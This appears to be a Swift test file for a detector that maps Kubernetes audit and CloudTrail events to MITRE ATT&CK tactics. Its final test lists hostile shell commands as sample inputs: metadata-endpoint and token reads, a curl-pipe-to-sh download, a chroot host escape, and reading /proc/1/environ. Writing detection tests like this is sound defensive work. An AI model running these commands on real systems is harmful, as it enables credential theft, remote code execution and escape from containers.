import CaseFolder
import Evidence
import Testing

@testable import Detection

private func classify(
  _ source: EventSource, _ action: Text, _ resource: Text, actor: Text = "someone", namespace: Text = "",
  outcome: Outcome = .success, traits: Set<CallTrait> = []
) -> CallClass? {
  CallClassifier.builtIn.classify(
    Call(
      source: source, actor: actor, action: action, resource: resource, namespace: namespace, outcome: outcome,
      traits: traits))
}

@Test func refusedAnonymousReadsAreScanning() {
  let call = classify(.kubernetesAudit, "list", "namespaces", actor: "system:anonymous", outcome: .denied)
  #expect(call == CallClass(tactic: "reconnaissance", techniques: ["T1595", "T1613"]))
}

@Test func anonymousSuccessCountsAsInitialAccessOnlyWhenNothingElseDoes() {
  let path = classify(.kubernetesAudit, "get", "/api", actor: "system:anonymous")
  #expect(path?.tactic == "initial-access")
  let secrets = classify(.kubernetesAudit, "list", "secrets", actor: "system:anonymous")
  #expect(secrets == CallClass(tactic: "credential-access", techniques: ["T1552.007"]))
}

@Test func admissionThatBlocksAPodIsNoEscape() {
  let call = classify(
    .kubernetesAudit, "create", "pods", namespace: "payments", outcome: .admissionDenied,
    traits: [.privilegedContainer, .sensitiveHostPath])
  #expect(call == CallClass(tactic: "execution", techniques: ["T1610"]))
}

@Test func execIsFoundUnderBothVerbs() {
  #expect(classify(.kubernetesAudit, "get", "pods/exec")?.techniques == ["T1609"])
  #expect(classify(.kubernetesAudit, "create", "pods/exec")?.techniques == ["T1609"])
}

@Test func serviceAccountFromOutsideUsesAStolenToken() {
  let call = classify(
    .kubernetesAudit, "list", "pods", actor: "system:serviceaccount:kube-system:robot", traits: [.publicAddress])
  #expect(call?.tactic == "lateral-movement" && call?.techniques == ["T1550.001", "T1613"])
  let inside = classify(.kubernetesAudit, "list", "pods", actor: "system:serviceaccount:kube-system:robot")
  #expect(inside?.tactic == "discovery")
}

@Test func switchingLoggingOffIsTheOnlyUpdateThatImpairsDefences() {
  #expect(classify(.cloudTrail, "UpdateClusterConfig", "eks.amazonaws.com") == nil)
  let off = classify(
    .cloudTrail, "UpdateClusterConfig", "eks.amazonaws.com", outcome: .denied, traits: [.loggingDisabled])
  #expect(off == CallClass(tactic: "defense-evasion", techniques: ["T1562.008"]))
}

@Test func unknownCallsHaveNoClass() {
  #expect(classify(.cloudTrail, "NobodyKnowsThis", "example.amazonaws.com") == nil)
}

private struct Command: CustomTestStringConvertible {
  let words: [Text]
  let traits: Set<CallTrait>
  var testDescription: String { words.map(\.string).joined(separator: " ") }

  static let all = [
    Command(words: ["curl", "http://169.254.169.254/latest/meta-data/"], traits: [.instanceMetadataCommand]),
    Command(words: ["cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"], traits: [.tokenFileCommand]),
    Command(words: ["sh", "-c", "curl http://example.net/x | sh"], traits: [.downloadCommand]),
    Command(words: ["chroot", "/host", "sh"], traits: [.hostCommand]),
    Command(words: ["cat", "/proc/1/environ"], traits: [.credentialFileCommand]),
    Command(words: ["ls", "-l"], traits: []),
  ]
}

@Test(arguments: Command.all)
private func commandsShowTheirPurpose(_ command: Command) {
  #expect(CallTrait.traits(ofCommand: command.words) == command.traits)
}
